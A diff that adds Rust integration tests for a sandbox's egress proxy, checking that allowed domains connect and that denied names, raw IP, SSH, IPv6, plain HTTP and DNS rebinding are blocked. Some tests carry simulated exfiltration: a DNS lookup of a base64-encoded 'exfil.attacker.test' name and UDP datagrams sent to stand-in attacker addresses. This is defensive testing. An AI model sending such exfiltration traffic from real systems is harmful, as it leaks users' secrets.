@@ -1,0 +1,336 @@
+//! The egress proxy against real servers on the host's loopback: each test
+//! starts listeners that record every connection and byte that reaches
+//! them, runs real clients inside a sandbox, and checks what arrived.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+mod common;
+use common::*;
+use std::io::{Read, Write};
+use std::net::{TcpListener, UdpSocket};
+use std::process::{Command, Stdio};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+/// A TCP server on 127.0.0.1 that records what each connection sent and
+/// answers with `reply`.
+struct Upstream {
+    port: u16,
+    seen: Arc<Mutex<Vec<Vec<u8>>>>,
+}
+
+impl Upstream {
+    fn start(reply: &'static [u8]) -> Upstream {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let s = seen.clone();
+        std::thread::spawn(move || {
+            for conn in listener.incoming() {
+                let Ok(mut conn) = conn else { continue };
+                conn.set_read_timeout(Some(Duration::from_millis(500)))
+                    .unwrap();
+                let mut buf = vec![0u8; 65536];
+                let n = conn.read(&mut buf).unwrap_or(0);
+                s.lock().unwrap().push(buf[..n].to_vec());
+                let _ = conn.write_all(reply);
+            }
+        });
+        Upstream { port, seen }
+    }
+
+    fn connections(&self) -> Vec<Vec<u8>> {
+        self.seen.lock().unwrap().clone()
+    }
+}
+
+/// Python that builds a real TLS ClientHello (OpenSSL's) for a name.
+const PY_HELLO: &str = r#"import socket, ssl, sys
+def hello(name):
+    ctx = ssl.create_default_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
+    if name is None:
+        ctx.check_hostname = False
+    t = ctx.wrap_bio(i, o, server_hostname=name)
+    try: t.do_handshake()
+    except ssl.SSLWantReadError: pass
+    return o.read()
+def send(addr, data):
+    try:
+        s = socket.create_connection(addr, timeout=5); s.settimeout(5); s.sendall(data)
+        return s.recv(200)
+    except OSError as e:
+        return ('error', e.errno)
+"#;
+
+fn sandbox_python(args: &[&str], body: &str) -> std::process::Output {
+    let script = format!("{PY_HELLO}{body}");
+    Command::new(warden_bin())
+        .args(["run", "--no-tty"])
+        .args(args)
+        .args(["--", "python3", "-c", &script])
+        .stdin(Stdio::null())
+        .output()
+        .unwrap()
+}
+
+/// Whether this kernel lets a sandbox wire its network (nf_tables and
+/// nf_nat); any other failure of the probe fails the test.
+fn egress_available() -> bool {
+    let out = sandbox_python(&["--allow-domain", "probe.test"], "print('ok')");
+    if out.status.success() && stdout(&out).trim() == "ok" {
+        return true;
+    }
+    let err = stderr(&out);
+    if err.contains("cannot install the redirect rule") {
+        skip(&format!(
+            "this kernel cannot wire the sandbox's network: {}",
+            err.trim()
+        ));
+        return false;
+    }
+    panic!("the egress probe failed: {} {err}", stdout(&out));
+}
+
+#[test]
+fn an_allowed_name_reaches_its_server_and_a_denied_one_reaches_nothing() {
+    if !egress_available() {
+        return;
+    }
+    let up = Upstream::start(b"hello from upstream");
+    let port = up.port.to_string();
+    let dir = TempDir::new("egress-events");
+    let ev = dir.path().join("ev.jsonl");
+    let out = sandbox_python(
+        &[
+            "--allow-domain",
+            &format!("allowed.test:{port}"),
+            "--add-host",
+            "allowed.test=127.0.0.1",
+            "--json-events",
+            ev.to_str().unwrap(),
+        ],
+        &format!(
+            "ip = socket.gethostbyname('allowed.test')\n\
+print('by-name', send((ip, {port}), hello('allowed.test')))\n\
+print('denied', send((ip, {port}), hello('denied.test')))\n"
+        ),
+    );
+    let s = stdout(&out);
+    assert!(
+        s.contains("by-name b'hello from upstream'"),
+        "{s} {}",
+        stderr(&out)
+    );
+    assert!(s.contains("denied b''"), "{s}");
+    let seen = up.connections();
+    assert_eq!(seen.len(), 1, "the upstream saw {} connections", seen.len());
+    assert_eq!(
+        seen[0][0], 22,
+        "the upstream did not get the ClientHello first"
+    );
+    assert!(
+        stderr(&out).contains("egress denied: tls denied.test"),
+        "{}",
+        stderr(&out)
+    );
+    let evs = events(&ev);
+    let conns: Vec<_> = evs.iter().filter(|e| e["event"] == "connection").collect();
+    assert!(conns
+        .iter()
+        .any(|e| e["protocol"] == "tls" && e["name"] == "allowed.test" && e["allowed"] == true));
+    assert!(conns
+        .iter()
+        .any(|e| e["protocol"] == "tls" && e["name"] == "denied.test" && e["allowed"] == false));
+    assert!(conns
+        .iter()
+        .any(|e| e["protocol"] == "dns" && e["name"] == "allowed.test"));
+}
+
+#[test]
+fn an_allowed_name_sent_to_an_attackers_address_still_reaches_the_allowed_host() {
+    if !egress_available() {
+        return;
+    }
+    let up = Upstream::start(b"the allowed host");
+    let port = up.port.to_string();
+    // 203.0.113.9 stands for an attacker's server: the decision and the
+    // destination come from the name, never from the address chosen.
+    let out = sandbox_python(
+        &[
+            "--allow-domain",
+            &format!("allowed.test:{port}"),
+            "--add-host",
+            "allowed.test=127.0.0.1",
+        ],
+        &format!("print(send(('203.0.113.9', {port}), hello('allowed.test')))\n"),
+    );
+    assert!(
+        stdout(&out).contains("the allowed host"),
+        "{} {}",
+        stdout(&out),
+        stderr(&out)
+    );
+    assert_eq!(up.connections().len(), 1);
+}
+
+#[test]
+fn connections_without_a_name_raw_tcp_and_ipv6_reach_nothing() {
+    if !egress_available() {
+        return;
+    }
+    let up = Upstream::start(b"should not be seen");
+    let port = up.port.to_string();
+    let out = sandbox_python(
+        &[
+            "--allow-domain",
+            &format!("allowed.test:{port}"),
+            "--add-host",
+            "allowed.test=127.0.0.1",
+        ],
+        &format!(
+            "ip = socket.gethostbyname('allowed.test')\n\
+print('nosni', send((ip, {port}), hello(None)))\n\
+print('rawip-sni', send((ip, {port}), hello('127.0.0.1')))\n\
+print('ssh', send((ip, {port}), b'SSH-2.0-OpenSSH_9.2\\r\\n'))\n\
+print('v6', send(('2001:db8::1', {port}), b'x'))\n"
+        ),
+    );
+    let s = stdout(&out);
+    assert!(
+        s.contains("nosni b''") && s.contains("rawip-sni b''") && s.contains("ssh b''"),
+        "{s} {}",
+        stderr(&out)
+    );
+    assert!(s.contains("v6 ('error'"), "{s}");
+    assert!(
+        up.connections().is_empty(),
+        "the upstream saw {:?}",
+        up.connections()
+    );
+}
+
+#[test]
+fn plain_http_is_denied_by_default_and_allowed_with_allow_http() {
+    if !egress_available() {
+        return;
+    }
+    let up = Upstream::start(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
+    let port = up.port.to_string();
+    let body = format!(
+        "ip = socket.gethostbyname('web.test')\n\
+print(send((ip, {port}), b'GET / HTTP/1.1\\r\\nHost: web.test:{port}\\r\\n\\r\\n'))\n"
+    );
+    let base = [
+        "--allow-domain",
+        &format!("web.test:{port}"),
+        "--add-host",
+        "web.test=127.0.0.1",
+    ];
+    let denied = sandbox_python(&base, &body);
+    assert!(
+        stdout(&denied).contains("403 Forbidden"),
+        "{}",
+        stdout(&denied)
+    );
+    assert!(up.connections().is_empty());
+    let mut allowed_args = base.to_vec();
+    allowed_args.push("--allow-http");
+    let allowed = sandbox_python(&allowed_args, &body);
+    assert!(
+        stdout(&allowed).contains("200 OK"),
+        "{} {}",
+        stdout(&allowed),
+        stderr(&allowed)
+    );
+    let seen = up.connections();
+    assert_eq!(seen.len(), 1);
+    assert!(String::from_utf8_lossy(&seen[0]).starts_with("GET / HTTP/1.1"));
+}
+
+#[test]
+fn denied_names_get_nxdomain_and_nothing_reaches_a_name_server() {
+    if !egress_available() {
+        return;
+    }
+    // An attacker's name server on the host's loopback, and one "outside".
+    let attacker = UdpSocket::bind("127.0.0.1:0").unwrap();
+    attacker
+        .set_read_timeout(Some(Duration::from_millis(300)))
+        .unwrap();
+    let aport = attacker.local_addr().unwrap().port();
+    let out = sandbox_python(
+        &["--allow-domain", "allowed.test"],
+        &format!(
+            "try:\n    socket.gethostbyname('c2VjcmV0.exfil.attacker.test'); print('RESOLVED')\nexcept OSError as e: print('nx', e)\n\
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+for addr in [('127.0.0.1', {aport}), ('203.0.113.53', 53), ('203.0.113.53', {aport})]:\n    try: u.sendto(b'exfiltrated', addr)\n    except OSError: pass\n\
+print('sent')\n"
+        ),
+    );
+    let s = stdout(&out);
+    assert!(
+        s.contains("nx") && !s.contains("RESOLVED") && s.contains("sent"),
+        "{s} {}",
+        stderr(&out)
+    );
+    let mut buf = [0u8; 64];
+    assert!(
+        attacker.recv_from(&mut buf).is_err(),
+        "a datagram reached the host"
+    );
+}
+
+#[test]
+fn names_that_resolve_to_the_hosts_own_addresses_are_refused() {
+    if !egress_available() {
+        return;
+    }
+    let up = Upstream::start(b"host service");
+    let port = up.port.to_string();
+    // "localhost" resolves to 127.0.0.1 on the host: without --add-host the
+    // proxy must not connect there (DNS rebinding onto host services).
+    let out = sandbox_python(
+        &["--allow-domain", &format!("localhost:{port}")],
+        &format!("print(send(('203.0.113.9', {port}), hello('localhost')))\n"),
+    );
+    assert!(!stdout(&out).contains("host service"), "{}", stdout(&out));
+    assert!(up.connections().is_empty());
+}
+
+#[test]
+fn egress_works_for_an_unprivileged_user_too() {
+    if !egress_available() {
+        return;
+    }
+    let Some(who) = Unprivileged::get() else {
+        skip("cannot get an unprivileged user to run warden as");
+        return;
+    };
+    let up = Upstream::start(b"hello rootless");
+    let port = up.port.to_string();
+    let script = format!(
+        "{PY_HELLO}ip = socket.gethostbyname('allowed.test')\nprint(send((ip, {port}), hello('allowed.test')))\n"
+    );
+    let out = who
+        .command(who.bin.to_str().unwrap())
+        .args(["run", "--no-tty", "--allow-degraded", "--allow-domain"])
+        .arg(format!("allowed.test:{port}"))
+        .args([
+            "--add-host",
+            "allowed.test=127.0.0.1",
+            "--",
+            "python3",
+            "-c",
+            &script,
+        ])
+        .env_clear()
+        .env("PATH", "/usr/bin:/bin")
+        .output()
+        .unwrap();
+    assert!(
+        stdout(&out).contains("hello rootless"),
+        "{} {}",
+        stdout(&out),
+        stderr(&out)
+    );
+    assert_eq!(up.connections().len(), 1);
+}
